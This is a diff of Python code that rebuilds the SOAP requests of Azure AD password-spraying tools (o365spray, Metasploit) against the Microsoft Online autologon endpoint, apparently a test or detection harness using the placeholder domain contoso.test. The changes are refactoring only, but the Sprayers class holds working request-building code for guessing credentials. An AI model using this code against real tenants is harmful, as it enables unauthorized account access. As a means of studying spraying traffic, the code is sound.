@@ -33,6 +33,7 @@ NAMESPACES = {
     "wst": "http://schemas.xmlsoap.org/ws/2005/02/trust",
     "ic": "http://schemas.xmlsoap.org/ws/2005/05/identity",
 }
+ERROR = re.compile(r"AADSTS(\d+): .*\r\nTrace ID: .+\r\nCorrelation ID: .+\r\nTimestamp: .", re.DOTALL)
 PSF = "{http://schemas.microsoft.com/Passport/SoapServices/SOAPFault}"
 
 
@@ -67,15 +68,15 @@ class Answer:
         """Returns the number of the error in an answer of the token endpoint."""
         with contextlib.suppress(ValueError):
             found = json.loads(self.body)
-            match = re.match(r"AADSTS(\d+): .*\r\nTrace ID: .+\r\nCorrelation ID: .+\r\nTimestamp: .", found.get("error_description", ""), re.S)
+            match = ERROR.match(found.get("error_description", ""))
             if match and found.get("error_codes") == [int(match.group(1))]:
                 return match.group(1)
         return f"{self.status} {self.body[:200]}"
 
 
 def walk(document, path, anywhere=None):
-    """Follows local names from the envelope, as PowerShell does. Each name must be of one element. The last element has a text only,
-    because PowerShell returns other elements as objects. `anywhere` is a name that may stand at any place."""
+    """Follows local names from the envelope, as PowerShell does. Each name must be of one element. The last element has a text
+    only, because PowerShell returns other elements as objects. `anywhere` is a name that may stand at any place."""
     names = path.split(".")
     if anywhere:
         found = [element for element in document.iter() if local(element) == anywhere]
@@ -146,8 +147,8 @@ def envelope(url, at, security=(), names=NAMESPACES):
     return [(first, "<?xml version='1.0' encoding='UTF-8'?>"), (outer, f"<s:Envelope {declared}>"), (part, "<s:Header>"),
             (block, f"<wsa:Action s:mustUnderstand='1'>{ISSUE}</wsa:Action>"),
             (block, f"<wsa:To s:mustUnderstand='1'>{url}</wsa:To>"),
-            (block, f"<wsa:MessageID>urn:uuid:{uuid.uuid4()}</wsa:MessageID>"), *security, (part, "</s:Header>"), (part, "<s:Body>"),
-            (block, "<wst:RequestSecurityToken Id='RST0'>"),
+            (block, f"<wsa:MessageID>urn:uuid:{uuid.uuid4()}</wsa:MessageID>"), *security, (part, "</s:Header>"),
+            (part, "<s:Body>"), (block, "<wst:RequestSecurityToken Id='RST0'>"),
             (block + 4, "<wst:RequestType>http://schemas.xmlsoap.org/ws/2005/02/trust/Issue</wst:RequestType>"),
             (applies, "<wsp:AppliesTo>"), (applies + 4, "<wsa:EndpointReference>"),
             (applies + 8, "<wsa:Address>urn:federation:MicrosoftOnline</wsa:Address>"), (applies + 4, "</wsa:EndpointReference>"),
@@ -193,22 +194,25 @@ class Sprayers:
         self.wire = wire
 
     def o365spray(self, name, password, domain="contoso.test"):
-        form = "%Y-%m-%dT%H:%M:%S.001Z"
-        now = datetime.now(timezone.utc)
-        return self._send(domain, name, password, now.strftime(form), (now + timedelta(minutes=10)).strftime(form), f"uuid-{uuid.uuid4()}",
-                          {"User-Agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "Accept-Encoding": "gzip, deflate", "Accept": "*/*"})
+        times = lifetime("%Y-%m-%dT%H:%M:%S.001Z")
+        return self._send(domain, name, password, times, f"uuid-{uuid.uuid4()}", {"Accept-Encoding": "gzip, deflate", "Accept": "*/*"})
 
     def metasploit(self, name, password, domain="contoso.test"):
         """Writes the times as Ruby's `inspect` does, which is not the form of XML Schema."""
-        now = datetime.now(timezone.utc)
-        created, expires = ((now + timedelta(minutes=minutes)).strftime("%Y-%m-%d %H:%M:%S.%f +0000") for minutes in (0, 10))
-        return self._send(domain, name, password, created, expires, uuid.uuid4(), {"User-Agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"})
+        return self._send(domain, name, password, lifetime("%Y-%m-%d %H:%M:%S.%f +0000"), uuid.uuid4(), {})
 
-    def _send(self, domain, name, password, created, expires, token, headers):
+    def _send(self, domain, name, password, times, token, headers):
         path = f"/{domain}/winauth/trust/2005/usernamemixed?client-request-id={uuid.uuid4()}"
         security = [(8, '<wsse:Security s:mustUnderstand="1">'), (12, '<wsu:Timestamp wsu:Id="_0">'),
-                    (16, f"<wsu:Created>{created}</wsu:Created>"), (16, f"<wsu:Expires>{expires}</wsu:Expires>"), (12, "</wsu:Timestamp>"),
+                    (16, f"<wsu:Created>{times[0]}</wsu:Created>"), (16, f"<wsu:Expires>{times[1]}</wsu:Expires>"),
+                    (12, "</wsu:Timestamp>"),
                     (12, f'<wsse:UsernameToken wsu:Id="{token}">'), (16, f"<wsse:Username>{name}</wsse:Username>"),
                     (16, f"<wsse:Password>{password}</wsse:Password>"), (12, "</wsse:UsernameToken>"), (8, "</wsse:Security>")]
         body = message(envelope(f"https://{AUTOLOGON}{path}", (0, 0, 4, 8, 16), security))
-        return self.wire.send(AUTOLOGON, path, body.encode(), headers)
+        return self.wire.send(AUTOLOGON, path, body.encode(), {"User-Agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64)", **headers})
+
+
+def lifetime(form):
+    """Returns the present and the time in ten minutes."""
+    now = datetime.now(timezone.utc)
+    return now.strftime(form), (now + timedelta(minutes=10)).strftime(form)
